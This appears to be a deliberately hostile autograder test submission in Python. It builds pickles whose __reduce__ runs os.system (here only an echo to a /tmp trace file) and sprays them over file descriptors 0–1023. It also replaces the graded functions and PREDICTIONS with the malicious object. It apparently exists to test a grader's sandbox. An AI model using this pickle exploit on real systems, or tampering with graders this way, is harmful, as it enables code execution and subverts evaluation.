# hostile: forged-reply: honest part nothing
# Writes pickles, framed and bare, that leave a file behind if anybody on the other side loads one.
honest = neuron_gap
import os
import pickle
import struct

TRACE = "/tmp/autograder-hostile-trace-forged_pickles"


class Loaded:
    def __reduce__(self):
        return os.system, (f"echo loaded > {TRACE}",)


def send_pickles(*ignored):
    for protocol in range(6):
        body = pickle.dumps(Loaded(), protocol)
        for descriptor in range(1_024):
            for frame in (
                body,
                struct.pack("<I", len(body)) + body,
                struct.pack(">Q", len(body)) + body,
            ):
                try:
                    os.set_blocking(descriptor, False)
                    os.write(descriptor, frame)
                except OSError:
                    pass
    return Loaded()


neuron_gap = saturated_fraction = relative_gradient = send_pickles
PREDICTIONS = dict.fromkeys(PREDICTIONS, Loaded())
